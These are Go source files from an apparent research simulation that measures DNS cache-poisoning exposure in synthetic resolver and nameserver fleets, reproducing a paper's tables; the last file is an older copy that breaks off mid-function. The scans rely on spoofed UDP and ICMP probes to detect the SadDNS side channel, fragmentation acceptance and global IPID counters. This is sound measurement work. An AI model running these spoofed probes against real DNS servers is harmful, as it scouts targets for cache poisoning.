	Spec      ResolverDatasetSpec
	Shard     engine.Shard
	Clock     *sim.Clock
	Net       *netsim.Network
	Prober    *netsim.Host
	Prober2   *netsim.Host
	TestNS    *netsim.Host
	TestSrv   *dnssrv.Server
	Resolvers []*SimResolver
}

// proberAS and friends are the fleet's fixed AS layout.
const (
	fleetTransitAS bgp.ASN = 1
	fleetProbeAS   bgp.ASN = 2
	fleetNSAS      bgp.ASN = 3
	fleetResolvAS  bgp.ASN = 4
)

// fleetAddr returns the i-th resolver address (10.x.y.1).
func fleetAddr(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{10, byte(i >> 8), byte(i), 1})
}

// NewResolverFleet synthesizes n resolvers drawn from spec using seed,
// as a single shard covering indices [0, n). The engine-driven scans
// instead build one fleet per shard with NewResolverFleetShard.
func NewResolverFleet(spec ResolverDatasetSpec, n int, seed int64) *ResolverFleet {
	return NewResolverFleetShard(spec, engine.Shard{Start: 0, Count: n, Seed: seed})
}

// NewResolverFleetShard synthesizes the shard's slice of the
// population: resolvers with global indices [sh.Start, sh.Start+
// sh.Count), drawn from spec's calibrated marginals with the shard's
// derived seed, on a clock and network owned by the shard alone.
// A shard may cover at most 2^16 items — the fleet address scheme
// packs the item index into two address bytes, and a larger shard
// panics on the first duplicate address (Config.job clamps shard
// sizes accordingly).
func NewResolverFleetShard(spec ResolverDatasetSpec, sh engine.Shard) *ResolverFleet {
	clock := sim.NewClock(sh.Seed)
	rng := clock.NewRand()
	topo := bgp.NewTopology()
	topo.AddAS(fleetTransitAS, 1)
	for _, asn := range []bgp.ASN{fleetProbeAS, fleetNSAS, fleetResolvAS} {
		topo.AddAS(asn, 3)
		topo.AddProviderCustomer(fleetTransitAS, asn)
	}
	rib := bgp.NewRIB(topo, nil)
	net := netsim.New(clock, topo, rib)
	rib.Announce(netip.MustParsePrefix("192.0.2.0/24"), fleetProbeAS)
	rib.Announce(netip.MustParsePrefix("198.51.100.0/24"), fleetNSAS)
	rib.Announce(netip.MustParsePrefix("10.0.0.0/8"), fleetResolvAS)

	f := &ResolverFleet{
		Spec:    spec,
		Shard:   sh,
		Clock:   clock,
		Net:     net,
		Prober:  net.AddHost("prober", fleetProbeAS, netip.MustParseAddr("192.0.2.10")),
		Prober2: net.AddHost("prober2", fleetProbeAS, netip.MustParseAddr("192.0.2.11")),
		TestNS:  net.AddHost("testns", fleetNSAS, netip.MustParseAddr("198.51.100.53")),
	}
	net.AS(fleetProbeAS).EgressFiltering = false // measurement probes spoof like the paper's

	zone := dnssrv.NewZone("test.example.")
	zone.Add(dnswire.NewSOA("test.example.", 3600, "ns.test.example.", "r.test.example.", 1))
	srvCfg := dnssrv.DefaultConfig()
	srvCfg.PadAnswersTo = 1280
	f.TestSrv = dnssrv.New(f.TestNS, srvCfg)
	f.TestSrv.AddZone(zone)

	nsAddr := f.TestNS.Addr
	for k := 0; k < sh.Count; k++ {
		i := sh.Start + k
		addr := fleetAddr(i)
		h := net.AddHost(fmt.Sprintf("resolver-%d", i), fleetResolvAS, addr)

		truthSub := rng.Float64() < spec.SubPrefixRate
		plen := 24
		if truthSub {
			plen = samplePrefixLen(rng, 1.0)
			if plen == 24 {
				plen = 22
			}
		}
		prefix, _ := addr.Prefix(plen)

		truthSad := rng.Float64() < spec.SadDNSRate
		if truthSad {
			h.Cfg.ICMPLimitMode = netsim.ICMPLimitGlobal
		} else if rng.Float64() < 0.5 {
			h.Cfg.ICMPLimitMode = netsim.ICMPLimitPerIP
		} else {
			h.Cfg.ICMPLimitMode = netsim.ICMPLimitNone
		}

		truthFrag := rng.Float64() < spec.FragRate
		prof := resolver.ProfileBIND
		prof.Name = fmt.Sprintf("pop-%d", i)
		if truthFrag {
			h.Cfg.AcceptFragments = true
			prof.EDNSSize = 4096
		} else if rng.Float64() < 0.5 {
			h.Cfg.AcceptFragments = false
			prof.EDNSSize = sampleEDNS(rng)
		} else {
			// Accepts fragments but advertises a buffer too small for
			// the fragmented response ("fitting into response").
			h.Cfg.AcceptFragments = true
			prof.EDNSSize = 512
		}
		r := resolver.New(h, prof)
		r.Open = true
		r.AddZoneServer("test.example.", nsAddr)

		// Per-resolver probe records in the test zone (CNAME trick).
		zone.Add(
			dnswire.NewCNAME(fmt.Sprintf("frag-%d.test.example.", i), 60, fmt.Sprintf("target-%d.test.example.", i)),
			dnswire.NewA(fmt.Sprintf("target-%d.test.example.", i), 60, nsAddr),
		)

		f.Resolvers = append(f.Resolvers, &SimResolver{
			Index: i, Host: h, Resolver: r, AnnouncedPrefix: prefix,
			TruthSubPrefix: truthSub, TruthSadDNS: truthSad, TruthFrag: truthFrag,
		})
	}
	return f
}
