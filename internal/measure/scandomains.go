package measure

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
	"crosslayer/internal/report"
	"crosslayer/internal/resolver"
	"crosslayer/internal/sim"
	"crosslayer/internal/stats"
)

// SimDomain is one synthesized domain with its authoritative server.
type SimDomain struct {
	Index  int
	Name   string
	NSHost *netsim.Host
	Server *dnssrv.Server

	AnnouncedPrefix netip.Prefix
	// Ground truth.
	TruthSubPrefix  bool
	TruthRateLimit  bool
	TruthFragAny    bool
	TruthFragGlobal bool
	TruthDNSSEC     bool
	// MinFragSize is the smallest fragment the server will emit
	// (Figure 4's right curve); 0 when it never fragments.
	MinFragSize int
}

// DomainFleet is a synthesized nameserver population shard. Like
// ResolverFleet, each fleet owns its clock and network outright so
// shards simulate concurrently without shared state.
type DomainFleet struct {
	Spec    DomainDatasetSpec
	Shard   engine.Shard
	Clock   *sim.Clock
	Net     *netsim.Network
	Prober  *netsim.Host
	Prober2 *netsim.Host
	Domains []*SimDomain
	// BurstSize is the RRL probe volume (paper: 4000 queries/s; tests
	// scale it down).
	BurstSize int
}

func fleetNSAddr(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{10, byte(i >> 8), byte(i), 53})
}

// NewDomainFleet synthesizes n domains drawn from spec as a single
// shard covering indices [0, n).
func NewDomainFleet(spec DomainDatasetSpec, n int, seed int64) *DomainFleet {
	return NewDomainFleetShard(spec, engine.Shard{Start: 0, Count: n, Seed: seed})
}

// NewDomainFleetShard synthesizes the shard's slice of the domain
// population (global indices [sh.Start, sh.Start+sh.Count)) on a clock
// and network owned by the shard alone.
func NewDomainFleetShard(spec DomainDatasetSpec, sh engine.Shard) *DomainFleet {
	clock := sim.NewClock(sh.Seed)
	rng := clock.NewRand()
	topo := bgp.NewTopology()
	topo.AddAS(fleetTransitAS, 1)
	for _, asn := range []bgp.ASN{fleetProbeAS, fleetNSAS} {
		topo.AddAS(asn, 3)
		topo.AddProviderCustomer(fleetTransitAS, asn)
	}
	rib := bgp.NewRIB(topo, nil)
	net := netsim.New(clock, topo, rib)
	rib.Announce(netip.MustParsePrefix("192.0.2.0/24"), fleetProbeAS)
	rib.Announce(netip.MustParsePrefix("10.0.0.0/8"), fleetNSAS)

	f := &DomainFleet{
		Spec: spec, Shard: sh, Clock: clock, Net: net,
		Prober:    net.AddHost("prober", fleetProbeAS, netip.MustParseAddr("192.0.2.10")),
		Prober2:   net.AddHost("prober2", fleetProbeAS, netip.MustParseAddr("192.0.2.11")),
		BurstSize: 400,
	}
	net.AS(fleetProbeAS).EgressFiltering = false

	for k := 0; k < sh.Count; k++ {
		i := sh.Start + k
		addr := fleetNSAddr(i)
		h := net.AddHost(fmt.Sprintf("ns-%d", i), fleetNSAS, addr)
		name := fmt.Sprintf("dom-%d.example.", i)

		truthSub := rng.Float64() < spec.SubPrefixRate
		plen := 24
		if truthSub {
			plen = samplePrefixLen(rng, 1.0)
			if plen == 24 {
				plen = 22
			}
		}
		prefix, _ := addr.Prefix(plen)

		cfg := dnssrv.DefaultConfig()
		truthRRL := rng.Float64() < spec.SadDNSRate
		if truthRRL {
			cfg.RateLimit = true
			cfg.RateLimitQPS = 100
		}
		truthFragAny := rng.Float64() < spec.FragAnyRate
		minFrag := 0
		if truthFragAny {
			h.Cfg.HonorPMTUD = true
			minFrag = sampleMinFragSize(rng)
			h.Cfg.PMTUFloor = minFrag
			cfg.PadAnswersTo = 1400 // big ANY responses
		} else {
			h.Cfg.HonorPMTUD = false
		}
		truthFragGlobal := false
		if truthFragAny && spec.FragAnyRate > 0 {
			// Conditional probability: global-IPID given fragmentable.
			truthFragGlobal = rng.Float64() < spec.FragGlobalRate/spec.FragAnyRate
		}
		if truthFragGlobal {
			h.Cfg.IPIDMode = netsim.IPIDGlobalCounter
		} else if rng.Float64() < 0.5 {
			h.Cfg.IPIDMode = netsim.IPIDRandom
		} else {
			h.Cfg.IPIDMode = netsim.IPIDPerDestCounter
		}
		truthSigned := rng.Float64() < spec.DNSSECRate

		zone := dnssrv.NewZone(name)
		zone.Signed = truthSigned
		zone.Add(
			dnswire.NewSOA(name, 3600, "ns."+name, "root."+name, 1),
			dnswire.NewNS(name, 3600, "ns."+name),
			dnswire.NewA("ns."+name, 3600, addr),
			dnswire.NewA(name, 300, addr),
			dnswire.NewMX(name, 300, 10, "mail."+name),
			dnswire.NewA("mail."+name, 300, addr),
			dnswire.NewTXT(name, 300, "v=spf1 ip4:10.0.0.0/8 -all"),
		)
		srv := dnssrv.New(h, cfg)
		srv.AddZone(zone)

		f.Domains = append(f.Domains, &SimDomain{
			Index: i, Name: name, NSHost: h, Server: srv,
			AnnouncedPrefix: prefix,
			TruthSubPrefix:  truthSub, TruthRateLimit: truthRRL,
			TruthFragAny: truthFragAny, TruthFragGlobal: truthFragGlobal,
			TruthDNSSEC: truthSigned, MinFragSize: minFrag,
		})
	}
	return f
}

// DomainScanResult is the measured vulnerability of one domain fleet
// shard, or — after Merge — of a whole Table 4 dataset.
type DomainScanResult struct {
	Spec       DomainDatasetSpec
	Scanned    int
	SubPrefix  stats.Counter
	SadDNS     stats.Counter
	FragAny    stats.Counter
	FragGlobal stats.Counter
	DNSSEC     stats.Counter
	// MinFragSizes holds, per fragmenting server, the smallest
	// fragment observed (Figure 4's right curve), in domain order.
	MinFragSizes []float64
	Membership   []uint8 // bit0 hijack, bit1 saddns, bit2 frag-any
}

// Merge folds another shard's result (covering a disjoint slice of the
// same dataset) into r; see ResolverScanResult.Merge.
func (r *DomainScanResult) Merge(o DomainScanResult) {
	r.Scanned += o.Scanned
	r.SubPrefix = r.SubPrefix.Plus(o.SubPrefix)
	r.SadDNS = r.SadDNS.Plus(o.SadDNS)
	r.FragAny = r.FragAny.Plus(o.FragAny)
	r.FragGlobal = r.FragGlobal.Plus(o.FragGlobal)
	r.DNSSEC = r.DNSSEC.Plus(o.DNSSEC)
	r.MinFragSizes = append(r.MinFragSizes, o.MinFragSizes...)
	r.Membership = append(r.Membership, o.Membership...)
}

// ScanDomainFleet runs the §5.2.2 nameserver measurements.
func ScanDomainFleet(f *DomainFleet) DomainScanResult {
	res := DomainScanResult{Spec: f.Spec, Scanned: len(f.Domains)}
	for _, d := range f.Domains {
		var bits uint8
		sub := d.AnnouncedPrefix.Bits() < 24
		res.SubPrefix.Observe(sub)
		if sub {
			bits |= 1
		}
		rrl := scanRateLimit(f, d)
		res.SadDNS.Observe(rrl)
		if rrl {
			bits |= 2
		}
		size, fragAny := scanPMTUD(f, d)
		res.FragAny.Observe(fragAny)
		global := false
		if fragAny {
			bits |= 4
			res.MinFragSizes = append(res.MinFragSizes, float64(size))
			global = scanGlobalIPID(f, d)
		}
		res.FragGlobal.Observe(global)
		res.DNSSEC.Observe(scanDNSSEC(f, d))
		res.Membership = append(res.Membership, bits)
	}
	return res
}

// scanRateLimit is the 4000-query burst test: blast queries within one
// second and check whether responses are suppressed.
func scanRateLimit(f *DomainFleet, d *SimDomain) bool {
	// Fresh second so the server's RRL window is clean.
	f.Clock.RunUntil((f.Clock.Now()/time.Second + 1) * time.Second)
	got := 0
	q := dnswire.NewQuery(9, d.Name, dnswire.TypeA)
	wire, _ := q.Pack()
	port := f.Prober.BindUDP(0, func(dg netsim.Datagram) {
		if dg.Src == d.NSHost.Addr {
			got++
		}
	})
	for i := 0; i < f.BurstSize; i++ {
		f.Prober.SendUDP(port, d.NSHost.Addr, 53, wire)
	}
	f.Net.RunFor(4 * f.Net.Latency())
	f.Prober.CloseUDP(port)
	// "We consider a nameserver vulnerable if we can measure a
	// reduction in responses after the burst."
	return got < f.BurstSize
}

// scanPMTUD sends a spoofed PTB then a padded query and watches for
// fragments, returning the smallest observed fragment size.
func scanPMTUD(f *DomainFleet, d *SimDomain) (minSize int, fragmented bool) {
	// Fresh second: the preceding burst test may have muted an
	// RRL-enabled server for the remainder of its window.
	f.Clock.RunUntil((f.Clock.Now()/time.Second + 1) * time.Second)
	// PTB: pretend the path to the prober only carries 292 bytes; the
	// server clamps to its own floor.
	quoted := &packet.IPv4{ID: 1, TTL: 64, Protocol: packet.ProtoUDP,
		Src: d.NSHost.Addr, Dst: f.Prober.Addr, Payload: make([]byte, 16)}
	quote, err := packet.QuoteDatagram(quoted)
	if err != nil {
		return 0, false
	}
	f.Prober.SendICMPSpoofed(f.Prober.Addr, d.NSHost.Addr, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodeFragNeeded,
		MTU: 292, Payload: quote,
	})
	f.Net.RunFor(4 * f.Net.Latency())

	minSize = 1 << 20
	f.Prober.OnRaw(func(ip *packet.IPv4) {
		if ip.Src != d.NSHost.Addr || !ip.IsFragment() {
			return
		}
		fragmented = true
		if ip.TotalLen() < minSize {
			minSize = ip.TotalLen()
		}
	})
	q := dnswire.NewQuery(10, d.Name, dnswire.TypeANY)
	q.SetEDNS(4096, false)
	wire, _ := q.Pack()
	port := f.Prober.BindUDP(0, func(netsim.Datagram) {})
	f.Prober.SendUDP(port, d.NSHost.Addr, 53, wire)
	f.Net.RunFor(6 * f.Net.Latency())
	f.Prober.CloseUDP(port)
	f.Prober.OnRaw(nil)
	if !fragmented {
		return 0, false
	}
	return minSize, true
}

// scanGlobalIPID interleaves queries from two probe addresses and
// checks whether the response IPIDs form one consecutive sequence —
// the signature of a single global counter.
func scanGlobalIPID(f *DomainFleet, d *SimDomain) bool {
	f.Clock.RunUntil((f.Clock.Now()/time.Second + 1) * time.Second)
	var ids []uint16
	capture := func(h *netsim.Host) func(*packet.IPv4) {
		return func(ip *packet.IPv4) {
			if ip.Src == d.NSHost.Addr && ip.Protocol == packet.ProtoUDP && !ip.IsFragment() {
				ids = append(ids, ip.ID)
			}
		}
	}
	f.Prober.OnRaw(capture(f.Prober))
	f.Prober2.OnRaw(capture(f.Prober2))
	q := dnswire.NewQuery(11, d.Name, dnswire.TypeA)
	wire, _ := q.Pack()
	p1 := f.Prober.BindUDP(0, func(netsim.Datagram) {})
	p2 := f.Prober2.BindUDP(0, func(netsim.Datagram) {})
	for i := 0; i < 2; i++ {
		f.Prober.SendUDP(p1, d.NSHost.Addr, 53, wire)
		f.Net.RunFor(4 * f.Net.Latency())
		f.Prober2.SendUDP(p2, d.NSHost.Addr, 53, wire)
		f.Net.RunFor(4 * f.Net.Latency())
	}
	f.Prober.CloseUDP(p1)
	f.Prober2.CloseUDP(p2)
	f.Prober.OnRaw(nil)
	f.Prober2.OnRaw(nil)
	if len(ids) < 4 {
		return false
	}
	for i := 1; i < len(ids); i++ {
		if ids[i] != ids[i-1]+1 {
			return false
		}
	}
	return true
}

// scanDNSSEC checks whether answers carry RRSIGs.
func scanDNSSEC(f *DomainFleet, d *SimDomain) bool {
	f.Clock.RunUntil((f.Clock.Now()/time.Second + 1) * time.Second)
	signed := false
	resolver.StubQuery(f.Prober, d.NSHost.Addr, d.Name, dnswire.TypeA, 5*time.Second,
		func(m *dnswire.Message, err error) {
			if err != nil {
				return
			}
			for _, rr := range m.Answers {
				if rr.Type == dnswire.TypeRRSIG {
					signed = true
				}
			}
		})
	f.Net.RunFor(6 * f.Net.Latency())
	return signed
}

// ScanDomainDataset synthesizes and scans one Table 4 dataset of n
// domains by fanning population shards out through the experiment
// engine and merging the per-shard results in shard order. A
// cancelled ctx aborts the scan at the next shard boundary.
func ScanDomainDataset(ctx context.Context, spec DomainDatasetSpec, n int, cfg Config) (DomainScanResult, error) {
	job := cfg.job(spec.Name, n)
	parts, err := engine.RunCtx(ctx, job, func(sh engine.Shard) DomainScanResult {
		return ScanDomainFleet(NewDomainFleetShard(spec, sh))
	})
	if err != nil {
		return DomainScanResult{}, err
	}
	res := DomainScanResult{Spec: spec}
	for _, p := range parts {
		res.Merge(p)
	}
	return res, nil
}

// Table4 runs the full Table 4 reproduction with default execution
// settings.
func Table4(sampleCap int, seed int64) (*report.Report, []DomainScanResult) {
	rep, res, _ := Table4Run(context.Background(), Config{SampleCap: sampleCap, Seed: seed})
	return rep, res
}

// Table4Run builds the Table 4 Report under an explicit execution
// Config; output is byte-identical for any Parallelism. The only
// error source is ctx cancellation mid-sweep.
func Table4Run(ctx context.Context, cfg Config) (*report.Report, []DomainScanResult, error) {
	rep := report.New("table4", "Table 4: vulnerable domains per dataset")
	tbl := rep.AddSection(report.Table("", "Table 4: Vulnerable domains",
		report.Col("Dataset", report.KindString),
		report.Col("Protocol", report.KindString),
		report.Col("BGP sub-prefix", report.KindRatio),
		report.Col("SadDNS", report.KindRatio),
		report.Col("Frag any", report.KindRatio),
		report.Col("Frag global", report.KindRatio),
		report.Col("DNSSEC", report.KindRatio),
		report.Col("Sampled", report.KindInt),
		report.Col("Paper size", report.KindInt)))
	var results []DomainScanResult
	for i, spec := range Table4Datasets() {
		r, err := ScanDomainDataset(ctx, spec, cfg.cap(spec.PaperSize), cfg.forDataset(i))
		if err != nil {
			return nil, nil, err
		}
		results = append(results, r)
		tbl.Add(spec.Name, spec.Protocols, r.SubPrefix, r.SadDNS, r.FragAny, r.FragGlobal, r.DNSSEC,
			r.Scanned, spec.PaperSize)
	}
	return rep, results, nil
}
