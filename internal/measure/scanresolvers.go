package measure

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/packet"
	"crosslayer/internal/report"
	"crosslayer/internal/resolver"
	"crosslayer/internal/stats"
)

// ResolverScanResult is the measured vulnerability of one fleet shard,
// or — after Merge — of a whole dataset. All fields combine across
// shards: counters add, sample vectors concatenate in shard order.
type ResolverScanResult struct {
	Spec      ResolverDatasetSpec
	Scanned   int
	SubPrefix stats.Counter
	SadDNS    stats.Counter
	Frag      stats.Counter
	// EDNSSizes holds the EDNS buffer size each resolver advertised
	// toward the test nameserver (Figure 4's left curve), in resolver
	// order; resolvers that never queried the test NS contribute
	// nothing.
	EDNSSizes []float64
	// Membership bit-vectors for Figure 5 (bit0 hijack, bit1 saddns,
	// bit2 frag).
	Membership []uint8
}

// Merge folds another shard's result (covering a disjoint slice of the
// same dataset) into r. Counters merge order-independently; sample
// vectors concatenate, so merging shards in index order keeps output
// deterministic for any worker count.
func (r *ResolverScanResult) Merge(o ResolverScanResult) {
	r.Scanned += o.Scanned
	r.SubPrefix = r.SubPrefix.Plus(o.SubPrefix)
	r.SadDNS = r.SadDNS.Plus(o.SadDNS)
	r.Frag = r.Frag.Plus(o.Frag)
	r.EDNSSizes = append(r.EDNSSizes, o.EDNSSizes...)
	r.Membership = append(r.Membership, o.Membership...)
}

// ScanResolverFleet runs the three §5.1.2 measurements against every
// resolver in the fleet shard.
func ScanResolverFleet(f *ResolverFleet) ResolverScanResult {
	res := ResolverScanResult{Spec: f.Spec, Scanned: len(f.Resolvers)}

	// Server-side EDNS observation during the frag scan.
	ednsByResolver := map[netip.Addr]float64{}
	f.TestSrv.Observe = func(q *dnswire.Message, src netip.Addr, transport string) {
		if transport != "udp" {
			return
		}
		size := 512.0
		if sz, _, ok := q.EDNS(); ok {
			size = float64(sz)
		}
		ednsByResolver[src] = size
	}

	for _, sr := range f.Resolvers {
		var bits uint8
		sub := scanSubPrefix(sr)
		res.SubPrefix.Observe(sub)
		if sub {
			bits |= 1
		}
		sad := scanSadDNS(f, sr)
		res.SadDNS.Observe(sad)
		if sad {
			bits |= 2
		}
		frag := scanFrag(f, sr)
		res.Frag.Observe(frag)
		if frag {
			bits |= 4
		}
		res.Membership = append(res.Membership, bits)
	}
	// Collect in resolver order (not map order) so the merged sample
	// vector — and everything rendered from it — is deterministic.
	for _, sr := range f.Resolvers {
		if sz, ok := ednsByResolver[sr.Host.Addr]; ok {
			res.EDNSSizes = append(res.EDNSSizes, sz)
		}
	}
	f.TestSrv.Observe = nil
	return res
}

// scanSubPrefix is the paper's RouteViews analysis: a resolver is
// sub-prefix hijackable iff the covering announcement is shorter than
// /24 (a /24 or longer cannot be out-specificed through common
// filters).
func scanSubPrefix(sr *SimResolver) bool {
	return sr.AnnouncedPrefix.Bits() < 24
}

// scanSadDNS tests the global ICMP rate limit: first an ICMP echo for
// liveness, then one full bucket of spoofed probes to closed ports
// followed by a verification probe from the prober's own address. A
// suppressed verification means the spoofed probes and the prober
// share one global bucket — the side channel exists.
//
// No clock alignment is needed between resolvers: each resolver host
// has its own token bucket, echo replies consume no tokens, and the
// probe burst plus verification are all sent at one virtual instant,
// so they arrive — and draw tokens — inside a single rate-limit
// window wherever that instant falls.
func scanSadDNS(f *ResolverFleet, sr *SimResolver) bool {
	target := sr.Host.Addr

	alive := false
	f.Prober.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == target && msg.Type == packet.ICMPTypeEchoReply {
			alive = true
		}
	})
	f.Prober.Ping(target, uint16(sr.Index), 1)
	f.Net.RunFor(4 * f.Net.Latency())
	if !alive {
		f.Prober.OnICMP(nil)
		return false
	}

	verified := false
	f.Prober.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == target && msg.IsPortUnreachable() {
			verified = true
		}
	})
	// 50 spoofed probes (source = test NS) to closed low ports, then
	// the verification probe, all within one window (FIFO ordering).
	for p := uint16(700); p < 750; p++ {
		f.Prober.SendUDPSpoofed(f.TestNS.Addr, 53, target, p, []byte("probe"))
	}
	f.Prober.SendUDP(999, target, 751, []byte("verify"))
	f.Net.RunFor(4 * f.Net.Latency())
	f.Prober.OnICMP(nil)
	return !verified
}

// scanFrag is the paper's custom-nameserver probe: the test NS
// fragments a padded CNAME response toward the resolver; only a
// resolver that reassembles AND accepts it over UDP will come back
// with a query for the CNAME target. A TCP re-query means truncation
// fallback, not fragment acceptance.
func scanFrag(f *ResolverFleet, sr *SimResolver) bool {
	aliasName := fmt.Sprintf("frag-%d.test.example.", sr.Index)
	targetName := fmt.Sprintf("target-%d.test.example.", sr.Index)

	sawTargetUDP := false
	sawAliasTCP := false
	prevObserve := f.TestSrv.Observe
	f.TestSrv.Observe = func(q *dnswire.Message, src netip.Addr, transport string) {
		if prevObserve != nil {
			prevObserve(q, src, transport)
		}
		if src != sr.Host.Addr {
			return
		}
		name := q.Question().Name
		if transport == "udp" && dnswire.EqualNames(name, targetName) {
			sawTargetUDP = true
		}
		if transport == "tcp" && dnswire.EqualNames(name, aliasName) {
			sawAliasTCP = true
		}
	}
	// Force fragmentation toward this resolver (the measurement owns
	// the NS, §5.1.2).
	f.TestNS.SetPMTU(sr.Host.Addr, 576)

	resolver.StubLookup(f.Prober, sr.Host.Addr, aliasName, dnswire.TypeA, 15*time.Second,
		func([]*dnswire.RR, error) {})
	f.Net.Run()
	f.TestSrv.Observe = prevObserve
	return sawTargetUDP && !sawAliasTCP
}

// ScanResolverDataset synthesizes and scans one Table 3 dataset of n
// resolvers by fanning population shards out through the experiment
// engine and merging the per-shard results in shard order. A
// cancelled ctx aborts the scan at the next shard boundary.
func ScanResolverDataset(ctx context.Context, spec ResolverDatasetSpec, n int, cfg Config) (ResolverScanResult, error) {
	job := cfg.job(spec.Name, n)
	parts, err := engine.RunCtx(ctx, job, func(sh engine.Shard) ResolverScanResult {
		return ScanResolverFleet(NewResolverFleetShard(spec, sh))
	})
	if err != nil {
		return ResolverScanResult{}, err
	}
	res := ResolverScanResult{Spec: spec}
	for _, p := range parts {
		res.Merge(p)
	}
	return res, nil
}

// Table3 runs the full Table 3 reproduction with default execution
// settings: every dataset scaled to at most sampleCap resolvers,
// scanned with the three probes.
func Table3(sampleCap int, seed int64) (*report.Report, []ResolverScanResult) {
	rep, res, _ := Table3Run(context.Background(), Config{SampleCap: sampleCap, Seed: seed})
	return rep, res
}

// Table3Run builds the Table 3 Report under an explicit execution
// Config: each dataset is sharded and scanned in parallel, with
// byte-identical output for any Parallelism. The only error source is
// ctx cancellation mid-sweep.
func Table3Run(ctx context.Context, cfg Config) (*report.Report, []ResolverScanResult, error) {
	rep := report.New("table3", "Table 3: vulnerable resolvers per dataset")
	tbl := rep.AddSection(report.Table("", "Table 3: Vulnerable resolvers",
		report.Col("Dataset", report.KindString),
		report.Col("Protocol", report.KindString),
		report.Col("BGP sub-prefix", report.KindRatio),
		report.Col("SadDNS", report.KindRatio),
		report.Col("Fragment", report.KindRatio),
		report.Col("Sampled", report.KindInt),
		report.Col("Paper size", report.KindInt)))
	var results []ResolverScanResult
	for i, spec := range Table3Datasets() {
		r, err := ScanResolverDataset(ctx, spec, cfg.cap(spec.PaperSize), cfg.forDataset(i))
		if err != nil {
			return nil, nil, err
		}
		results = append(results, r)
		tbl.Add(spec.Name, spec.Protocols, r.SubPrefix, r.SadDNS, r.Frag, r.Scanned, spec.PaperSize)
	}
	return rep, results, nil
}
