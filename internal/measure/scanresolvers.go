package measure

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/packet"
	"crosslayer/internal/resolver"
	"crosslayer/internal/stats"
)

// ResolverScanResult is the measured vulnerability of one fleet.
type ResolverScanResult struct {
	Spec      ResolverDatasetSpec
	Scanned   int
	SubPrefix int
	SadDNS    int
	Frag      int
	// EDNSSizes holds the EDNS buffer size each resolver advertised
	// toward the test nameserver (Figure 4's left curve).
	EDNSSizes []float64
	// Membership bit-vectors for Figure 5 (bit0 hijack, bit1 saddns,
	// bit2 frag).
	Membership []uint8
}

// ScanResolverFleet runs the three §5.1.2 measurements against every
// resolver in the fleet.
func ScanResolverFleet(f *ResolverFleet) ResolverScanResult {
	res := ResolverScanResult{Spec: f.Spec, Scanned: len(f.Resolvers)}

	// Server-side EDNS observation during the frag scan.
	ednsByResolver := map[netip.Addr]float64{}
	f.TestSrv.Observe = func(q *dnswire.Message, src netip.Addr, transport string) {
		if transport != "udp" {
			return
		}
		size := 512.0
		if sz, _, ok := q.EDNS(); ok {
			size = float64(sz)
		}
		ednsByResolver[src] = size
	}

	for _, sr := range f.Resolvers {
		var bits uint8
		if scanSubPrefix(sr) {
			res.SubPrefix++
			bits |= 1
		}
		if scanSadDNS(f, sr) {
			res.SadDNS++
			bits |= 2
		}
		if scanFrag(f, sr) {
			res.Frag++
			bits |= 4
		}
		res.Membership = append(res.Membership, bits)
	}
	for _, sz := range ednsByResolver {
		res.EDNSSizes = append(res.EDNSSizes, sz)
	}
	f.TestSrv.Observe = nil
	return res
}

// scanSubPrefix is the paper's RouteViews analysis: a resolver is
// sub-prefix hijackable iff the covering announcement is shorter than
// /24 (a /24 or longer cannot be out-specificed through common
// filters).
func scanSubPrefix(sr *SimResolver) bool {
	return sr.AnnouncedPrefix.Bits() < 24
}

// scanSadDNS tests the global ICMP rate limit: first an ICMP echo for
// liveness, then one full bucket of spoofed probes to closed ports
// followed by a verification probe from the prober's own address. A
// suppressed verification means the spoofed probes and the prober
// share one global bucket — the side channel exists.
func scanSadDNS(f *ResolverFleet, sr *SimResolver) bool {
	target := sr.Host.Addr
	// Align to a fresh ICMP window so earlier scans cannot interfere.
	win := sr.Host.ICMPWindow()
	f.Clock.RunUntil((f.Clock.Now()/win + 1) * win)

	alive := false
	f.Prober.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == target && msg.Type == packet.ICMPTypeEchoReply {
			alive = true
		}
	})
	f.Prober.Ping(target, uint16(sr.Index), 1)
	f.Net.RunFor(4 * f.Net.Latency())
	if !alive {
		f.Prober.OnICMP(nil)
		return false
	}

	verified := false
	f.Prober.OnICMP(func(src netip.Addr, msg *packet.ICMP) {
		if src == target && msg.IsPortUnreachable() {
			verified = true
		}
	})
	// 50 spoofed probes (source = test NS) to closed low ports, then
	// the verification probe, all within one window (FIFO ordering).
	for p := uint16(700); p < 750; p++ {
		f.Prober.SendUDPSpoofed(f.TestNS.Addr, 53, target, p, []byte("probe"))
	}
	f.Prober.SendUDP(999, target, 751, []byte("verify"))
	f.Net.RunFor(4 * f.Net.Latency())
	f.Prober.OnICMP(nil)
	return !verified
}

// scanFrag is the paper's custom-nameserver probe: the test NS
// fragments a padded CNAME response toward the resolver; only a
// resolver that reassembles AND accepts it over UDP will come back
// with a query for the CNAME target. A TCP re-query means truncation
// fallback, not fragment acceptance.
func scanFrag(f *ResolverFleet, sr *SimResolver) bool {
	aliasName := fmt.Sprintf("frag-%d.test.example.", sr.Index)
	targetName := fmt.Sprintf("target-%d.test.example.", sr.Index)

	sawTargetUDP := false
	sawAliasTCP := false
	prevObserve := f.TestSrv.Observe
	f.TestSrv.Observe = func(q *dnswire.Message, src netip.Addr, transport string) {
		if prevObserve != nil {
			prevObserve(q, src, transport)
		}
		if src != sr.Host.Addr {
			return
		}
		name := q.Question().Name
		if transport == "udp" && dnswire.EqualNames(name, targetName) {
			sawTargetUDP = true
		}
		if transport == "tcp" && dnswire.EqualNames(name, aliasName) {
			sawAliasTCP = true
		}
	}
	// Force fragmentation toward this resolver (the measurement owns
	// the NS, §5.1.2).
	f.TestNS.SetPMTU(sr.Host.Addr, 576)

	done := false
